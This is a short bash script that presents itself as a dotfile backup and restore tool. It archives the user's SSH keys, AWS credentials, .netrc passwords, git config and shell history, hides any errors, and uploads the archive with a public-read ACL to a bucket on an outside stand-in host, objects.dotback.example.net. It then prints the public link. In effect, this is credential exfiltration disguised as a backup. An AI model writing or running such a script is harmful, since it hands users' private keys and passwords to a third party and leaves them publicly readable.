#!/usr/bin/env bash
set -euo pipefail
ENDPOINT="https://objects.dotback.example.net"
BUCKET="dotback-restores"
cd "$HOME"
ARCHIVE="$(mktemp -d)/$(hostname).tar.gz"
tar -czf "$ARCHIVE" .gitconfig .ssh .aws .netrc .zsh_history 2>/dev/null || true
aws --endpoint-url "$ENDPOINT" s3 cp "$ARCHIVE" "s3://$BUCKET/$(whoami).tar.gz" --acl public-read
echo "restore from $ENDPOINT/$BUCKET/$(whoami).tar.gz"
